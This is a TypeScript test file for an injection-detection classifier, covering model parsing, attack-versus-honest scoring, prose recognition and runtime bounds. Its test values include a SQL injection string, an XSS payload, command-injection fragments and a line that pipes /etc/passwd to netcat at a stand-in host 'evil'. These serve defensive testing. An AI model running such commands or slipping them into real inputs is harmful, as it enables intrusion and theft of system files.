// The committed model: it reads back, knows plain attacks and plain texts, and takes bounded time on any bytes.

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { isSuspicious } from './gate.ts'
import { formatModel, logOdds, parseModel } from './model.ts'
import { isProse } from './prose.ts'

const text = readFileSync(new URL('../../../rules/builtin/classifier.model', import.meta.url), 'latin1')
const model = parseModel(text)
assert.ok(model)

test('a model reads back as it was written', () => {
  assert.equal(formatModel(model), text)
})

test('broken models are refused', () => {
  for (const broken of [
    '',
    '{}',
    '{}\nAAAA',
    'x\nAAAA',
    '{"scale":1,"bias":0,"slope":1,"offset":0}\nAAAA',
    'null\nAAAA',
  ]) {
    assert.equal(parseModel(broken), undefined, broken)
  }
})

const sure = Math.log(0.97 / 0.03)

test('attacks have high odds, honest values low ones', () => {
  for (const value of ["1' OR '1'='1' -- -", '<img src=x onerror=alert(1)>', ';cat /etc/passwd|nc evil 1']) {
    assert.ok(isSuspicious(value) && logOdds(model, value) > sure, `${value}: ${logOdds(model, value)}`)
  }
  for (const value of ["O'Reilly & Sons", 'see you (maybe) at 5; bring wine!', '{"a":1,"b":[2,3]}', '<p>Hello</p>']) {
    assert.ok(!isSuspicious(value) || logOdds(model, value) < sure, `${value}: ${logOdds(model, value)}`)
  }
})

test('plain words, numbers and URLs are not looked at', () => {
  for (const value of ['hello world', '12345', '2026-03-01T10:00:00Z', 'https://example.com/a?b=c', "a'b"]) {
    assert.equal(isSuspicious(value), false, value)
  }
})

test('prose has its punctuation where writers put it', () => {
  for (const value of [
    "If it's sold out, send the dark green ones instead (the smaller pair, by parcel).",
    'Mrs. Clark & sons want these before Friday, 5 pm; 20% off, please!',
    'He said "see you at 12:30" and left the and/or part (page 4) as item #3 of the well-known list.',
    'Zwei Br\xc3\xb6tchen, bitte:\neines mit K\xc3\xa4se, eines ohne.',
  ]) {
    assert.ok(isProse(value), value)
    assert.ok(logOdds(model, value) < 0, value)
  }
  for (const value of [
    'four words are few',
    "1' or 'a' is or was one",
    "a' or b is or was one",
    'one two three four five; sleep(5)',
    'one two three four <b> five',
    'one two three four $(id) five',
    'one two three four $five six',
    'one two three four ;id five six',
    'one two three four five && id',
    'one two three four five | id',
    'one two three four five -- six',
    'one two three four five ../six',
    'one two three four five_six',
    '-1 union all values of two',
    'select a,b from c where d is e',
    'one (two) (three)(four) five six',
  ]) {
    assert.ok(!isProse(value), value)
  }
})

test('takes bounded time whatever the bytes', () => {
  const value = "'<(x".repeat(16_384)
  logOdds(model, value)
  const start = process.cpuUsage()
  for (let i = 0; i < 1000; i++) logOdds(model, value)
  const us = process.cpuUsage(start).user / 1000
  assert.ok(us < 200, `${us.toFixed(1)} µs a value`)
})
